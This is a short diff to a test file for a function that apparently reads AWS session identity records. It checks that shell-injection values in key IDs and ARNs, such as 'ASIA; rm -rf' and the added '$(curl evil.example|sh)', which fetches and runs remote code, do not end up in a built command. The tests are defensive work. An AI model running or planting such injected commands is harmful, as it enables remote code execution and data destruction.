@@ -51,6 +51,7 @@ describe('a call that issues nothing and uses a session', () => {
   it('says nothing where no key was used, and builds no command from odd values', () => {
     expect(used({ type: 'AWSService', invokedBy: 'ec2.amazonaws.com' })).toBeUndefined();
     expect(used({ ...by('Deploy', 'alice'), accessKeyId: 'ASIA; rm -rf' })).toBeUndefined();
+    expect(used({ ...user(A, 'bob'), accessKeyId: 'AKIA0$(curl evil.example|sh)' })).toBeUndefined();
     const odd = used({ ...by('Deploy', 'alice'), arn: `arn:aws:sts::${A}:assumed-role/De$(x)/alice` });
     expect(odd ?? '').not.toContain('$(x)');
   });
